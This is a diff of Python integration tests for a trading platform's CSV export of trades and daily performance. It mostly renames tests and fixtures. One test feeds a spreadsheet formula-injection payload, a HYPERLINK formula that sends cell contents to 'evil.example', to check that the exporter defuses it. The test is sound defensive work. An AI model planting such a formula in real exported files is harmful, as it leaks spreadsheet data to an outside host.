@@ -1,4 +1,4 @@
-"""Trades and days as files: all of them, safe to open, at the reader's pace."""
+"""Trades and days as CSV files: complete, safe to open, at the reader's pace."""
 
 import asyncio
 import csv
@@ -11,7 +11,7 @@ import pytest
 
 from services.analytics.routes import export
 from tests.integration.accounts import eventually
-from tests.integration.analytics.conftest import Platform, closed, started
+from tests.integration.analytics.conftest import Platform, session_started, trade_closed
 from tests.integration.analytics.test_facts import some_trades
 from tests.unit.analytics.facts import at
 
@@ -25,11 +25,11 @@ async def fetch(platform: Platform, token: str, query: str) -> tuple[aiohttp.Cli
             return answer, list(csv.DictReader(io.StringIO((await answer.read()).decode(), newline="")))
 
 
-async def test_trades_are_exported_whole_and_in_order(platform: Platform) -> None:
+async def test_trades_are_exported_completely_and_in_order(platform: Platform) -> None:
     ann = await platform.register("ann@example.org", "Europe/Rome")
     await platform.get("/v1/performance/daily", ann)
     trades = some_trades(1, export.ROWS_AT_ONCE * 2 + 5)
-    await platform.hear(*trades, closed(1, "2026-01-01 10:00", "3", paper=False))
+    await platform.consume(*trades, trade_closed(1, "2026-01-01 10:00", "3", paper=False))
     answer, rows = await fetch(platform, ann, "what=trades")
     assert answer.status == 200
     assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
@@ -46,8 +46,8 @@ async def test_trades_are_exported_whole_and_in_order(platform: Platform) -> Non
 async def test_days_are_exported_with_their_columns(platform: Platform) -> None:
     ann = await platform.register("ann@example.org", "Europe/Rome")
     await platform.get("/v1/performance/daily", ann)
-    await platform.hear(started(1, "2026-01-01 00:00", "1000"))
-    await platform.hear(closed(1, "2026-01-01 10:00", "-10"), closed(1, "2026-01-01 23:30", "99"))
+    await platform.consume(session_started(1, "2026-01-01 00:00", "1000"))
+    await platform.consume(trade_closed(1, "2026-01-01 10:00", "-10"), trade_closed(1, "2026-01-01 23:30", "99"))
     _, rows = await fetch(platform, ann, "what=days")
     first, second = rows
     assert [first[name] for name in ("date", "timezone", "starting_balance", "capital_added", "capital_taken")] == [
@@ -64,16 +64,16 @@ async def test_a_name_that_is_a_formula_opens_as_text(platform: Platform) -> Non
     ann = await platform.register("ann@example.org")
     await platform.get("/v1/performance/daily", ann)
     name = '=HYPERLINK("http://evil.example/?"&A1,"x"),\r\n"'
-    await platform.hear(closed(1, "2026-01-01 10:00", "-5", strategy_name=name))
+    await platform.consume(trade_closed(1, "2026-01-01 10:00", "-5", strategy_name=name))
     _, (row,) = await fetch(platform, ann, "what=trades")
     assert (row["strategy_name"], row["pnl"]) == ("'" + name, "-5")
 
 
-async def test_two_tenants_get_their_own(platform: Platform) -> None:
+async def test_two_tenants_export_their_own_trades(platform: Platform) -> None:
     tokens = [await platform.register(f"{name}@example.org") for name in ("ann", "ben")]
     for token in tokens:
         await platform.get("/v1/performance/daily", token)
-    await platform.hear(closed(1, "2026-01-01 10:00", "1"), closed(2, "2026-01-01 10:00", "2"))
+    await platform.consume(trade_closed(1, "2026-01-01 10:00", "1"), trade_closed(2, "2026-01-01 10:00", "2"))
     assert [[row["pnl"] for row in (await fetch(platform, token, "what=trades"))[1]] for token in tokens] == [
         ["1"],
         ["2"],
@@ -91,21 +91,21 @@ async def test_two_tenants_get_their_own(platform: Platform) -> None:
         "what=days&x=1",
     ],
 )
-async def test_what_makes_no_sense_is_refused_before_the_first_byte(platform: Platform, query: str) -> None:
+async def test_an_invalid_query_is_refused_before_the_first_byte(platform: Platform, query: str) -> None:
     ann = await platform.register("ann@example.org")
     answer = await platform.analytics.call("GET", f"{EXPORT}?{query}", token=ann)
     assert (answer.status, answer.body["type"]) == (422, "/problems/invalid-input")
     assert (await platform.analytics.call("GET", f"{EXPORT}?what=days")).status == 401
 
 
-async def test_a_slow_reader_gets_all_of_it_and_holds_no_connection(platform: Platform) -> None:
-    """He takes a little and then waits; meanwhile every connection is free for others."""
+async def test_a_slow_reader_gets_the_whole_file_and_holds_no_connection(platform: Platform) -> None:
+    """The client reads a little and then waits; meanwhile every connection is free for others."""
     ann = await platform.register("ann@example.org")
     await platform.get("/v1/performance/daily", ann)
     begin = at("2026-01-01 00:00")
     for start in range(0, 20_000, 5_000):
         moments = (begin + timedelta(minutes=number) for number in range(start, start + 5_000))
-        await platform.hear(*(closed(1, moment.isoformat(), "1") for moment in moments))
+        await platform.consume(*(trade_closed(1, moment.isoformat(), "1") for moment in moments))
     async with aiohttp.ClientSession(platform.running.url, read_bufsize=4_096) as session:
         async with session.get(f"{EXPORT}?what=trades", headers={"Authorization": f"Bearer {ann}"}) as answer:
             text = await answer.content.read(1_000)
